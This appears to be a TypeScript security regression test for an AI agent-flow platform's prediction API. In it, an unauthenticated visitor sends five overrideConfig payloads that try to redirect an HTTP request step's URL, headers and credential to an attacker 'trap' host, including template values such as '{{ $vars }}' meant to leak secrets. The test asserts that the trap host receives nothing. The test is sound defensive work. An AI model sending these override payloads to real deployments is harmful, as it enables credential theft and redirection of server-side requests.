import assert from "node:assert/strict";
import { defineAttack } from "../house/define-attack.ts";
import { httpFlow } from "../house/sketches.ts";

export const attack = defineAttack({
  name: "a visitor overrides the address, the headers and the credential of a step",
  async run(house) {
    const secret = house.plant();
    const [shop, trap] = [await house.shop(), await house.trap()];
    const credential = await house.credential(secret);
    const agent = await house.agent(httpFlow({ url: `${shop.url}/orders`, credential }), {
      apiConfig: JSON.stringify({
        overrideConfig: {
          status: true,
          nodes: {
            "HTTP request": [
              { name: "url", enabled: true },
              { name: "credential", enabled: true },
            ],
          },
        },
      }),
    });
    const visitor = house.visitor();
    const path = `/api/v1/prediction/${agent}`;
    for (const overrideConfig of [
      { url: `${trap.url}/orders` },
      { url: { http: `${trap.url}/orders` } },
      { http: { url: `${trap.url}/orders` } },
      { baseUrl: trap.url, basePath: trap.url, headers: [{ key: "X-To", value: "{{ $vars }}" }] },
      { credential: "{{ question }}" },
    ]) {
      await visitor.send("POST", path, { question: "Orders?", overrideConfig });
    }
    assert.ok(shop.hasSeen(secret), "The shop never got the credential, so the attack proves nothing.");
    assert.equal(trap.received.length, 0, "The attacker's host was called.");
    return `Five overrides were ignored or refused; ${shop.received.length} requests went to the shop.`;
  },
});
